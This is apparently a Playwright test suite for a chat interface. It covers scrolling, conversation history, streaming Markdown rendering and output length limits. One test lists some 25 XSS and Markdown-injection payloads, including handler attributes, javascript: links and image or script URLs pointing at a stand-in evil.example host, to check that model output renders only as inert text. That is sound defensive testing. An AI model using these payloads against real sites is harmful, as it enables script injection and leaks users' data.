/** The conversation: its box, its turns, and Markdown that is rendered as it arrives and cannot do harm. */
import assert from "node:assert/strict";
import { EventEmitter, on } from "node:events";
import { after, before, test } from "node:test";
import { answer, chooseModel, launchChromium, openPage, send, serve, status } from "./browser.js";
import { serveScripted, tokensOf } from "./scripted.js";

/** @typedef {import("playwright-core").Page} Page */

/** @type {import("playwright-core").Browser} */
let browser;
/** @type {Awaited<ReturnType<typeof serve>>} */
let fast;
/** @type {Awaited<ReturnType<typeof serveScripted>>} */
let scripted;
/** What the scripted model says next. @type {() => AsyncIterable<string> | Iterable<string>} */
let script = () => [];

before(async () => {
  [browser, fast, scripted] = await Promise.all([launchChromium(), serve(0), serveScripted(() => script())]);
});

after(async () => {
  await Promise.all([browser?.close(), fast?.close(), scripted?.close()]);
});

/** A model that says what the test scripts, when the test says so. */
function speaker() {
  const emitter = new EventEmitter();
  script = async function* () {
    for await (const [text] of on(emitter, "say", { close: ["end"] })) yield text;
  };
  return {
    /** Resolves when the page shows it, which ends with a word of its own. @param {Page} page @param {string} text */
    async say(page, text) {
      emitter.emit("say", text);
      await answer(page)
        .filter({ hasText: text.trim().split(/\s+/).at(-1) })
        .waitFor();
    },
    end: () => emitter.emit("end"),
  };
}

for (const width of [1280, 375]) {
  test(`the box keeps its height and follows the text, until the reader scrolls up, at ${width} pixels`, async (t) => {
    const page = await openPage(t, browser, scripted.url, { viewport: { width, height: 800 } });
    const model = speaker();
    const before = await box(page);
    await send(page, "Go on");
    await status(page, "Streaming");
    await model.say(page, `${paragraphs(20)} twenty`);
    assert.deepEqual(await box(page), { height: before.height, left: 0 });
    await inView(page);
    await model.say(page, `${paragraphs(5)} more`);
    assert.equal((await box(page)).left, 0, "it has followed");
    await page.locator("#conversation").evaluate((log) => (log.scrollTop -= 150));
    await model.say(page, `${paragraphs(5)} unseen`);
    const { left } = await box(page);
    assert.ok(left > 150, `it stays where the reader is: ${left}`);
    await page.locator("#conversation").evaluate((log) => (log.scrollTop = log.scrollHeight));
    await model.say(page, `${paragraphs(5)} followed`);
    assert.equal((await box(page)).left, 0, "it follows again");
    model.end();
    await status(page, "Done");
    assert.deepEqual(await box(page), { height: before.height, left: 0 });
  });
}

test("earlier turns are shown and sent along, but not those that failed, until a new conversation", async (t) => {
  const page = await openPage(t, browser, fast.url);
  /** @type {any[]} */
  const bodies = [];
  page.on("request", (request) => request.method() === "POST" && bodies.push(request.postDataJSON()));
  await send(page, "One?");
  await status(page, "Done");
  await chooseModel(page, "local.mid-throttlingException");
  await send(page, "Two?");
  await status(page, "Failed");
  await chooseModel(page, "us.anthropic.claude-haiku-5-5");
  await send(page, "Three?");
  await status(page, "Done");
  const turns = page.locator(".turn");
  assert.deepEqual(await turns.locator(".prompt").allInnerTexts(), ["One?", "Two?", "Three?"]);
  const [first = "", , third = ""] = await turns.locator(".answer").allInnerTexts();
  assert.ok(first.startsWith("You asked: “One?”") && third.startsWith("You asked: “Three?”"));
  const said = bodies.at(-1).messages.map((/** @type {any} */ { role, content }) => `${role}: ${content.slice(0, 20)}`);
  assert.deepEqual(said, ["user: One?", "assistant: You asked: “One?” – ", "user: Three?"]);
  await page.getByRole("button", { name: "New conversation" }).click();
  assert.equal(await turns.count(), 0);
  assert.equal(await page.getByRole("status").innerText(), "");
  await send(page, "Four?");
  await status(page, "Done");
  assert.deepEqual(bodies.at(-1).messages, [{ role: "user", content: "Four?" }]);
});

test("a turn that was stopped is sent along with what was said", async (t) => {
  const page = await openPage(t, browser, scripted.url);
  /** @type {any[]} */
  const bodies = [];
  page.on("request", (request) => request.method() === "POST" && bodies.push(request.postDataJSON()));
  const model = speaker();
  await send(page, "One?");
  await status(page, "Streaming");
  await model.say(page, "Half an answ");
  await page.getByRole("button", { name: "Stop" }).click();
  await status(page, "Stopped");
  script = () => ["Two."];
  await send(page, "Two?");
  await status(page, "Done");
  assert.equal(bodies.at(-1).messages[1].content, "Half an answ");
});

test("the prompt is taken when it is sent, and comes back when the call fails", async (t) => {
  const page = await openPage(t, browser, fast.url);
  const prompt = page.getByLabel("Prompt");
  await send(page, "One?");
  await status(page, "Done");
  assert.equal(await prompt.inputValue(), "");
  await chooseModel(page, "local.mid-throttlingException");
  await send(page, "Two?");
  await status(page, "Failed");
  assert.equal(await prompt.inputValue(), "Two?");
});

const MARKDOWN = `# A heading

Some **bold**, *slanted* and \`code\`, 1 < 2 & 3.

- one
- two

- three, after an empty line
  1. nested

\`\`\`js
const a = "<b>";
\`\`\`

| a | b |
|---|--:|
| 1 | 2 |

> quoted

A [link](https://example.com/?a=1&b=2), and a [later one][ref].

[ref]: https://example.com/ref`;

test("Markdown is rendered as it arrives, and in the end as if it had come at once", async (t) => {
  const page = await openPage(t, browser, scripted.url);
  const model = speaker();
  await send(page, "Go on");
  await status(page, "Streaming");
  await model.say(page, "First **bold");
  assert.equal(await answer(page).locator("strong").count(), 0);
  await model.say(page, "er**\n\n- one item");
  assert.deepEqual(await answer(page).locator("strong, li").allInnerTexts(), ["bolder", "one item"]);
  await answer(page).evaluate(({ firstChild }) => Object.assign(firstChild ?? {}, { mark: true }));
  await model.say(page, "\n- another\n\nA paragraph");
  assert.equal(await answer(page).locator("li").count(), 2);
  const kept = await answer(page).evaluate(({ firstChild }) => Object.hasOwn(firstChild ?? {}, "mark"));
  assert.equal(
    kept,
    true,
    "a block that is complete is not rendered again: what a reader selects in it stays selected",
  );
  model.end();
  await status(page, "Done");

  const htmls = [];
  for (const pieces of [[MARKDOWN], tokensOf(MARKDOWN), [...MARKDOWN], [...MARKDOWN.replaceAll("\n", "\r\n")]]) {
    script = () => pieces;
    await send(page, "Go on");
    await status(page, "Streaming|Done");
    await answer(page).filter({ hasText: "later one" }).and(page.locator("[aria-busy=false]")).waitFor();
    htmls.push(await answer(page).innerHTML());
  }
  assert.equal(new Set(htmls).size, 1);
  const [html = ""] = htmls;
  for (const expected of [
    "<h4>A heading</h4>",
    "<strong>bold</strong>, <em>slanted</em> and <code>code</code>, 1 &lt; 2 &amp; 3.",
    'const a = "&lt;b&gt;";',
    '<td align="right">2</td>',
    '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">link</a>',
    '<a href="https://example.com/ref" target="_blank" rel="noopener noreferrer">later one</a>',
  ])
    assert.ok(html.includes(expected), `${expected} in ${html}`);
});

const ATTACKS = [
  "<script>hacked = 1</script>",
  "text <script src=https://evil.example/a.js></script>",
  "<img src=x onerror=hacked=1>",
  "<svg onload=hacked=1><animate onbegin=hacked=1></svg>",
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  "<style>*{display:none}</style>",
  '<a href="javascript:hacked=1">raw</a>',
  "[link](javascript:hacked=1)",
  "[link](JaVaScRiPt&colon;hacked=1)",
  "[link](  java\tscript:hacked=1)",
  "[link](data:text/html,<script>hacked=1</script>)",
  "[link](vbscript:hacked)",
  '[link](https://example.com "x onmouseover=hacked=1")',
  '[link](https://example.com/"onmouseover="hacked=1)',
  "![image](https://evil.example/?what=was-asked)",
  "![image](x onerror=hacked=1)",
  '![x" onerror="hacked=1](x)',
  "<https://example.com/><javascript:hacked=1>",
  "`<img src=x onerror=hacked=1>`",
  '```"onload=hacked=1\n<script>hacked=1</script>\n```',
  "<form action=https://evil.example><input name=conversation><button formaction=javascript:hacked=1>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
  "<div id=conversation class=turn></div>",
  "| <img src=x onerror=hacked=1> |\n|---|\n| <b onclick=hacked=1>x</b> |",
  "# <img src=x onerror=hacked=1>",
];

test("nothing that a model writes becomes anything but text and links", async (t) => {
  // without the page's policy, which would stop most of it a second time
  const page = await openPage(t, browser, scripted.url, { bypassCSP: true });
  /** @type {string[]} */
  const elsewhere = [];
  page.on("request", (request) => {
    if (!/^(http:\/\/127\.0\.0\.1:|data:)/.test(request.url())) elsewhere.push(request.url());
  });
  for (const split of [(/** @type {string} */ text) => [text], tokensOf]) {
    script = () => split(`${ATTACKS.join("\n\n")}\n\nthe end`);
    await send(page, `<img src=x onerror=hacked=1> [link](javascript:hacked=1)`);
    await answer(page).filter({ hasText: "the end" }).and(page.locator("[aria-busy=false]")).waitFor();
    const found = await answer(page).evaluate((element) => {
      const all = [...element.querySelectorAll("*")];
      return {
        names: [...new Set(all.map(({ localName }) => localName))].sort(),
        attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))].sort(),
        targets: all.flatMap((one) =>
          one instanceof HTMLAnchorElement && one.hasAttribute("href") ? [one.protocol] : [],
        ),
        text: element.textContent ?? "",
      };
    });
    assert.deepEqual(found.names, ["a", "code", "h4", "p", "pre", "table", "tbody", "td", "th", "thead", "tr"]);
    assert.deepEqual(found.attributes, ["href", "rel", "target"]);
    assert.deepEqual([...new Set(found.targets)], ["https:"]);
    for (const text of ["<script>hacked = 1</script>", "<style>*{display:none}</style>", "<iframe srcdoc="])
      assert.ok(found.text.includes(text), `what was written is shown: ${text}`);
    await answer(page).locator("a").first().hover();
    for (const link of await answer(page).locator("a:not([href])").all()) await link.click();
    assert.equal(await page.evaluate("typeof hacked"), "undefined");
  }
  assert.deepEqual(await page.locator(".prompt").last().locator("*").count(), 0);
  assert.deepEqual(elsewhere, []);
});

test("an answer without end is shown up to 200,000 characters", async (t) => {
  const page = await openPage(t, browser, fast.url);
  await chooseModel(page, "local.large-300000");
  await send(page);
  await status(page, "Cut off");
  assert.equal(await answer(page).evaluate((element) => element.textContent?.trim().length), 200_000);
});

/** The box's height, and how far it is from its end. @param {Page} page */
function box(page) {
  return page.locator("#conversation").evaluate((log) => ({
    height: log.clientHeight,
    left: Math.round(log.scrollHeight - log.clientHeight - log.scrollTop),
  }));
}

/** Resolves when the whole box is in view: the page scrolls to it smoothly. @param {Page} page */
function inView(page) {
  return page.waitForFunction(() => {
    const { top, bottom } = /** @type {Element} */ (document.getElementById("conversation")).getBoundingClientRect();
    return top >= 0 && bottom <= innerHeight;
  });
}

/** @param {number} count */
function paragraphs(count) {
  return "\n\nA paragraph of a few words.".repeat(count);
}
